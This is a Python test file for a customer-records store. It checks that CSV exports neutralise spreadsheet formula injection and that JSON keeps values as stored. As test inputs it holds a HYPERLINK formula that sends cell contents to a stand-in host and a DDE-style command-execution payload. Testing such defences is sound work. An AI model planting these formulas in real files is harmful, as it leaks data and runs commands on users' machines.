"""CSV exports write no live spreadsheet formula (a leading =, +, -, @, tab or CR gets a `'`); JSON is unchanged."""

from __future__ import annotations

import csv
import io
import json

from store import reports, scorecard
from store.call_records import CallEntry
from store.calls import log_call
from store.csv_safe import safe_cell, unquote
from store.customers import create_customer
from store.exporter import export_to
from store.importer import import_customers

EVIL = "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")"


def _export(store, kind, fmt):
    out = io.StringIO()
    export_to(store, "root", kind, out, fmt)
    return out.getvalue()


def test_safe_cell_quotes_what_a_spreadsheet_would_run_and_nothing_else():
    for text in ("=1+1", "+8613800138000", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text and unquote(safe_cell(text)) == text
    for value in ("张伟", "a=b", "", "'quoted", -5, 3.5, None):
        assert safe_cell(value) == value
    assert unquote("'plain") == "'plain"


def test_customer_and_call_csv_cells_never_start_a_formula_and_json_is_as_stored(team):
    create_customer(team, "li", phones=["13800138000"], name=EVIL, company="@corp", notes="-1+2")
    log_call(team, "li", CallEntry(number="13800138000", category="order", outcome="resolved", notes="+cmd|' /C calc'!A0"))
    for kind in ("customers", "calls"):
        rows = list(csv.reader(io.StringIO(_export(team, kind, "csv"), newline="")))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (kind, cell)
    customers = list(csv.DictReader(io.StringIO(_export(team, "customers", "csv"), newline="")))
    assert customers[0]["name"] == "'" + EVIL and customers[0]["phones"] == "'+8613800138000"
    assert json.loads(_export(team, "customers", "json"))[0]["name"] == EVIL
    assert json.loads(_export(team, "calls", "json"))[0]["notes"].startswith("+cmd")


def test_an_exported_csv_imports_back_without_the_quotes(team, tmp_path):
    create_customer(team, "li", phones=["13800138000"], name="=Zhang", notes="+vip")
    target = tmp_path / "customers.csv"
    target.write_text(_export(team, "customers", "csv"), encoding="utf-8")
    from store import open_store
    from store.agents import add_agent
    from store.customers import find_by_phone

    fresh = open_store(tmp_path / "fresh.db")
    try:
        add_agent(fresh, None, "boss", "Boss", "admin", None)
        assert import_customers(fresh, "boss", target).imported == 1
        again = find_by_phone(fresh, "boss", "13800138000")
        assert again.name == "=Zhang" and again.notes == "+vip"
    finally:
        fresh.close()


def test_the_weekly_report_and_the_scorecard_csv_quote_user_text(team):
    a = create_customer(team, "li", phones=["13800138001"], name="@Alpha")
    log_call(team, "li", CallEntry(customer_id=a, category="feedback", outcome="resolved", notes="=cmd()",
                                   started_at="2026-11-17T02:00:00Z"))
    summary = reports.weekly_summary(team, "lin", "2026-W47")
    text = reports.render(summary, "csv")
    assert "'=cmd()" in text and "\n=cmd" not in text and ",=cmd" not in text
    rows = [{k: None for k in scorecard.EXPORT_KEYS} | {"agent": "li", "display_name": "-李娜"}]
    assert "li,'-李娜," in scorecard.export(rows, "csv")


def test_the_rejects_file_quotes_formulas_too(team, tmp_path):
    source = tmp_path / "c.csv"
    source.write_text("name,phone\n=HYPERLINK(\"x\"),\n", encoding="utf-8")  # no phone: rejected
    result = import_customers(team, "lin", source)
    assert result.rejected == 1
    rows = list(csv.reader(io.StringIO(result.rejects_path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1][0] == "'=HYPERLINK(\"x\")"
